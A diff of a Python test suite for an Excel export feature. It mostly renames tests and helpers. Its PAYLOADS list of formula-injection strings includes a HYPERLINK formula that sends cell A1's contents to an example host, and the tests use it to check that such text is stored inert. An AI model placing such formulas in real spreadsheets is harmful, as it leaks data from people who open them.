@@ -16,11 +16,11 @@ from tests.export.factories import (
     SHEETS,
     SWEDISH,
     calamine_rows,
+    column_index,
+    expected_row,
     openpyxl_book,
-    place,
     report,
     row,
-    shown,
     write,
 )
 from vitec_desktop.export.export_spec import ExportSpec, ListContent
@@ -34,7 +34,7 @@ from vitec_desktop.webservice.models import ListKind
 
 MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 
-# What people send to those who open other people's spreadsheets.
+# Known attacks on people who open a spreadsheet.
 PAYLOADS = [
     "=1+1",
     '=HYPERLINK("http://example.org/?"&A1,"klicka")',
@@ -64,9 +64,9 @@ PAYLOADS = [
 ]
 
 TIPS_SHEET = 9
-TITLE = place(ListKind.TIPS, "tip.title")
-MESSAGE = place(ListKind.TIPS, "tip.message")
-DECISION_STATUS_ID = place(ListKind.TIPS, "estate.status.id")
+TITLE = column_index(ListKind.TIPS, "tip.title")
+MESSAGE = column_index(ListKind.TIPS, "tip.message")
+DECISION_STATUS_ID = column_index(ListKind.TIPS, "estate.status.id")
 
 
 def tip_with(**changes: Value) -> Row:
@@ -94,7 +94,7 @@ def test_each_list_is_read_back_with_every_column_and_the_same_types(target: Pat
     assert written.rows[kind] == len(one.tables[kind])
     header, *rows = calamine_rows(target, SHEETS[kind])
     assert header == [column_heading(column, SWEDISH) for column in COLUMNS[kind]]
-    assert rows == [shown(kind, expected) for expected in one.tables[kind]]
+    assert rows == [expected_row(kind, expected) for expected in one.tables[kind]]
     assert isinstance(rows[0][0], datetime)
 
 
@@ -103,10 +103,10 @@ def test_openpyxl_reads_the_same(target: Path) -> None:
     write(one, target)
     sheet = openpyxl_book(target)["Tips"]
     rows = [[("" if value is None else value) for value in values] for values in sheet.iter_rows(2, values_only=True)]
-    assert rows == [shown(ListKind.TIPS, expected) for expected in one.tables[ListKind.TIPS]]
+    assert rows == [expected_row(ListKind.TIPS, expected) for expected in one.tables[ListKind.TIPS]]
 
 
-def test_the_sheets_stand_in_order_with_the_report_s_own_last(target: Path) -> None:
+def test_the_sheets_are_in_order_and_the_one_about_the_report_is_last(target: Path) -> None:
     write(report(), target)
     assert openpyxl_book(target).sheetnames == [
         "Sammanfattning",
@@ -122,7 +122,7 @@ def test_the_sheets_stand_in_order_with_the_report_s_own_last(target: Path) -> N
     ]
 
 
-def test_a_moment_is_a_real_date_shown_to_the_minute_and_never_rounded_into_the_next_day(target: Path) -> None:
+def test_a_datetime_is_an_excel_date_shown_to_the_minute_and_not_rounded_up(target: Path) -> None:
     last = datetime(2026, 12, 31, 23, 59, 59, 999_999)
     write(report({ListKind.TIPS: [tip_with(createdAt=last)]}), target)
     cell = openpyxl_book(target)["Tips"]["A2"]
@@ -132,12 +132,12 @@ def test_a_moment_is_a_real_date_shown_to_the_minute_and_never_rounded_into_the_
     assert read_tip(target)[0] == datetime(2026, 12, 31, 23, 59, 59)
 
 
-def test_a_moment_before_excel_s_calendar_stands_as_text(target: Path) -> None:
+def test_a_datetime_before_excel_s_calendar_is_text(target: Path) -> None:
     write(report({ListKind.TIPS: [tip_with(createdAt=datetime(1, 1, 1))]}), target)
     assert read_tip(target)[0] == "0001-01-01 00:00"
 
 
-def test_text_stays_text_whatever_it_looks_like(target: Path) -> None:
+def test_text_that_looks_like_a_formula_stays_text(target: Path) -> None:
     write(report({ListKind.TIPS: [tip_with(tip_title=payload, tip_message=payload) for payload in PAYLOADS]}), target)
     _, *tips = calamine_rows(target, "Tips")
     _, *lines = openpyxl_book(target)["Tips"].iter_rows()
@@ -151,14 +151,14 @@ def test_text_stays_text_whatever_it_looks_like(target: Path) -> None:
     assert not list(sheet_xml(target, TIPS_SHEET).iter(f"{MAIN}f"))
 
 
-def test_a_risky_text_in_one_cell_does_not_change_its_neighbours(target: Path) -> None:
+def test_a_quoted_cell_does_not_change_its_neighbours(target: Path) -> None:
     tips = [tip_with(tip_title="=1", sender_name="+2", receiver_name="-3"), tip_with(tip_title="Villa")]
     write(report({ListKind.TIPS: tips}), target)
-    assert calamine_rows(target, "Tips")[1:] == [shown(ListKind.TIPS, tip) for tip in tips]
+    assert calamine_rows(target, "Tips")[1:] == [expected_row(ListKind.TIPS, tip) for tip in tips]
     assert not openpyxl_book(target)["Tips"].cell(3, TITLE + 1).quotePrefix
 
 
-def test_characters_that_no_cell_can_hold_are_replaced_and_counted(target: Path) -> None:
+def test_illegal_characters_are_replaced_and_counted(target: Path) -> None:
     tips = [tip_with(tip_title="Vi\x0blla\x00", tip_message="a\ud83db\ufffe"), tip_with(tip_title="Villa")]
     written = write(report({ListKind.TIPS: tips}), target)
     assert written.replaced_cells == 2
@@ -166,7 +166,7 @@ def test_characters_that_no_cell_can_hold_are_replaced_and_counted(target: Path)
     assert [tip[TITLE], tip[MESSAGE]] == ["Vi\ufffdlla\ufffd", "a\ufffdb\ufffd"]
 
 
-def test_a_text_too_long_for_a_cell_is_cut_with_a_mark_and_counted(target: Path) -> None:
+def test_a_text_too_long_for_a_cell_is_truncated_and_counted(target: Path) -> None:
     message = "åäö😀" * 20_000
     written = write(report({ListKind.TIPS: [tip_with(tip_message=message)]}), target)
     assert written.truncated_cells == 1
@@ -176,22 +176,22 @@ def test_a_text_too_long_for_a_cell_is_cut_with_a_mark_and_counted(target: Path)
     assert len(text.encode("utf-16-le")) // 2 <= 32_767
 
 
-def test_a_number_with_more_digits_than_excel_keeps_stands_as_text(target: Path) -> None:
+def test_a_number_with_more_digits_than_excel_keeps_is_text(target: Path) -> None:
     write(report({ListKind.TIPS: [tip_with(estate_status_id=12_345_678_901_234_567)]}), target)
     assert read_tip(target)[DECISION_STATUS_ID] == "12345678901234567"
 
 
-def test_an_unknown_state_stands_as_the_service_wrote_it(target: Path) -> None:
+def test_an_unknown_state_is_written_as_the_service_sent_it(target: Path) -> None:
     write(report({ListKind.TIPS: [tip_with(tip_state="=Sharked"), tip_with(tip_state="New")]}), target)
-    column = place(ListKind.TIPS, "tip.state")
+    column = column_index(ListKind.TIPS, "tip.state")
     assert [line[column] for line in calamine_rows(target, "Tips")] == ["Status", "=Sharked", "Ny"]
 
 
-def test_a_row_of_nothing_is_a_row_all_the_same(target: Path) -> None:
+def test_a_row_without_values_is_an_empty_row(target: Path) -> None:
     nothing: Row = (None,) * len(COLUMNS[ListKind.TIPS])
     write(report({ListKind.TIPS: [nothing, row(ListKind.TIPS, 1)]}), target)
     assert openpyxl_book(target)["Tips"].tables["Tips"].ref.endswith("3")
-    assert read_tip(target, 1) == shown(ListKind.TIPS, row(ListKind.TIPS, 1))
+    assert read_tip(target, 1) == expected_row(ListKind.TIPS, row(ListKind.TIPS, 1))
 
 
 def test_an_empty_list_has_its_header_and_a_table_of_one_empty_row(target: Path) -> None:
@@ -221,7 +221,7 @@ def test_each_list_is_a_table_whose_columns_are_its_header(target: Path) -> None
     assert len({name.casefold() for name in names}) == 3
 
 
-def test_the_header_is_bold_and_stays_in_sight_on_the_screen_and_on_paper(target: Path) -> None:
+def test_the_header_is_bold_frozen_and_printed_on_each_page(target: Path) -> None:
     write(report(), target)
     sheet = openpyxl_book(target)["Tips"]
     assert sheet.freeze_panes == "A2"
@@ -234,22 +234,22 @@ def test_the_header_is_bold_and_stays_in_sight_on_the_screen_and_on_paper(target
     assert sheet.oddFooter.left.text == "Tips och leads 1–31 okt 2026"
 
 
-def test_messages_wrap_and_every_other_cell_begins_at_the_top(target: Path) -> None:
+def test_messages_wrap_and_every_other_cell_is_aligned_to_the_top(target: Path) -> None:
     write(report(), target)
     cells = openpyxl_book(target)["Tips"][2]
     assert cells[MESSAGE].alignment.wrap_text
     assert {cell.alignment.vertical for cell in cells} == {"top"}
 
 
-def test_columns_are_as_wide_as_what_stands_in_them_within_reason(target: Path) -> None:
+def test_columns_are_as_wide_as_their_content_within_limits(target: Path) -> None:
     tips = [tip_with(tip_title="x" * 300, sender_name="Eva", receiver_name="y" * 29)]
     write(report({ListKind.TIPS: tips}), target)
     widths = openpyxl_book(target)["Tips"].column_dimensions
     assert [widths[letter].width for letter in "ACDE"] == [17, 40, 13, 31]
 
 
-def test_nothing_in_the_file_asks_to_be_computed_or_repaired(target: Path) -> None:
-    """Each part is named in the list of contents and holds the elements in the order that the format prescribes."""
+def test_excel_neither_computes_nor_repairs_the_file(target: Path) -> None:
+    """Each part has a content type, and its elements are in the order of the format."""
     write(report(), target)
     with ZipFile(target) as archive:
         assert archive.testzip() is None
@@ -263,25 +263,25 @@ def test_nothing_in_the_file_asks_to_be_computed_or_repaired(target: Path) -> No
     assert openpyxl_book(target).calculation.fullCalcOnLoad in (None, False)
 
 
-def test_a_list_longer_than_a_sheet_goes_on_in_further_sheets(target: Path) -> None:
+def test_a_list_longer_than_a_sheet_continues_on_further_sheets(target: Path) -> None:
     tips = [row(ListKind.TIPS, number) for number in range(7)]
     write(report({ListKind.TIPS: tips}), target, max_sheet_rows=4, spec=LISTS_ONLY)
     sheets = ["Tips", "Tips (2)", "Tips (3)"]
     assert openpyxl_book(target).sheetnames[2:] == [*sheets, "Om rapporten"]
     assert [len(calamine_rows(target, sheet)) - 1 for sheet in sheets] == [3, 3, 1]
     read = [line for sheet in sheets for line in calamine_rows(target, sheet)[1:]]
-    assert read == [shown(ListKind.TIPS, tip) for tip in tips]
+    assert read == [expected_row(ListKind.TIPS, tip) for tip in tips]
     tables = [table.displayName for sheet in openpyxl_book(target).worksheets[:-1] for table in sheet.tables.values()]
     assert len({table.casefold() for table in tables}) == 5
 
 
-def test_a_list_that_fills_its_sheet_exactly_needs_no_other(target: Path) -> None:
+def test_a_list_that_fills_its_sheet_exactly_has_one_sheet(target: Path) -> None:
     tips = [row(ListKind.TIPS, number) for number in range(3)]
     write(report({ListKind.TIPS: tips}), target, max_sheet_rows=4, spec=LISTS_ONLY)
     assert openpyxl_book(target).sheetnames[2:] == ["Tips", "Om rapporten"]
 
 
-def test_what_is_shown_is_written_in_its_own_order_and_columns(target: Path) -> None:
+def test_shown_rows_are_written_with_their_order_and_columns(target: Path) -> None:
     one = report()
     tips = one.tables[ListKind.TIPS]
     spec = ExportSpec({ListKind.TIPS: ListContent([tips[2], tips[0]], [TITLE, 0])})
@@ -304,30 +304,30 @@ def test_headings_and_labels_are_in_the_user_s_language(target: Path) -> None:
     write(report(), target, Language("xx", words))
     header, first, *_ = calamine_rows(target, "Tips colleagues")
     assert header[TITLE] == "Heading"
-    assert first[place(ListKind.TIPS, "tip.state")] == "New one"
+    assert first[column_index(ListKind.TIPS, "tip.state")] == "New one"
 
 
-def test_english_is_written_too(target: Path) -> None:
+def test_the_workbook_is_written_in_english_too(target: Path) -> None:
     write(report(), target, ENGLISH)
     kinds = dict(zip(ListKind, openpyxl_book(target).sheetnames[6:9], strict=True))
     for kind, sheet in kinds.items():
         assert calamine_rows(target, sheet)[0] == [column_heading(column, ENGLISH) for column in COLUMNS[kind]]
 
 
-def test_progress_is_told_in_rows_of_the_report_though_they_stand_on_several_sheets(target: Path) -> None:
-    news: list[tuple[int, int]] = []
+def test_progress_counts_report_rows_although_they_are_on_several_sheets(target: Path) -> None:
+    progress: list[tuple[int, int]] = []
     tips = [row(ListKind.TIPS, number) for number in range(1000)]
-    write(report({ListKind.TIPS: tips}), target, on_progress=lambda done, total: news.append((done, total)))
-    assert news[0] == (0, 1000)
-    assert news[-1] == (1000, 1000)
-    assert [done for done, _ in news] == sorted(done for done, _ in news)
-    assert len({done for done, _ in news}) == 7  # three thousand rows are written: waiting, feedback, tips
+    write(report({ListKind.TIPS: tips}), target, on_progress=lambda done, total: progress.append((done, total)))
+    assert progress[0] == (0, 1000)
+    assert progress[-1] == (1000, 1000)
+    assert [done for done, _ in progress] == sorted(done for done, _ in progress)
+    assert len({done for done, _ in progress}) == 7  # three thousand rows are written: unhandled, feedback, tips
 
 
-def test_writing_leaves_no_passing_files(
+def test_writing_leaves_no_temp_files(
     target: Path, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    passing = tmp_path_factory.mktemp("passing")
+    passing = tmp_path_factory.mktemp("temp")
     monkeypatch.setattr(tempfile, "tempdir", str(passing))
     write(report(), target)
     assert list(passing.iterdir()) == []
@@ -344,17 +344,15 @@ NASTY = st.text(
 
 @settings(deadline=None, max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(st.lists(st.tuples(NASTY, NASTY, NASTY), min_size=1, max_size=8))
-def test_any_text_comes_back_through_calamine_as_it_was_cleaned(
-    target: Path, texts: list[tuple[str, str, str]]
-) -> None:
+def test_calamine_reads_any_text_back_as_it_was_sanitized(target: Path, texts: list[tuple[str, str, str]]) -> None:
     tips = [tip_with(tip_title=title, tip_message=message, sender_name=name) for title, message, name in texts]
     write(report({ListKind.TIPS: tips}), target)
-    name_place = place(ListKind.TIPS, "sender.name")
+    name_place = column_index(ListKind.TIPS, "sender.name")
     for line, values in zip(calamine_rows(target, "Tips")[1:], texts, strict=True):
         expected = [_read_back(sanitize_cell_text(value, "", TextChanges())) for value in values]
         assert [line[TITLE], line[MESSAGE], line[name_place]] == expected
 
 
 def _read_back(text: str) -> str:
-    """Blank text is no text: there is nothing to see in such a cell."""
+    """Return the text that a reader finds; a blank text is an empty cell."""
     return "" if text.isspace() else text.replace("_x005F_", "_")
